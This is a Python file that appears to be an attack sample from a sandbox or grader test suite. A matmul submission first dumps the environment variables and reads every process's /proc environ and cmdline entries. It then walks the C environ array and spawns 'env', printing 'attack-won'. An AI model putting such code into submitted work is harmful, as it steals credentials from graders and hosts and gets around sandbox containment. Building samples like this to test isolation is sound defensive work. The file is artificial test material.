"""Reads the environment and the command line of every process.

covers = ["`/proc/<ppid>/mem`, `fd`, `environ`", "environment secrets"]
task = "matmul"
verdict = "ACCEPTED"
"""

import ctypes
import glob
import os
import subprocess

print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/self/environ", "/proc/cmdline"]:
    try:
        print(path, open(path, "rb").read().replace(b"\0", b" "))
    except OSError:
        pass
environment = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
number = 0
while environment[number]:
    print(environment[number])
    number += 1
try:
    print(subprocess.run(["env"], capture_output=True).stdout)
    print("attack-won: started a program")
except OSError:
    pass


def matmul(a, b):
    return a @ b
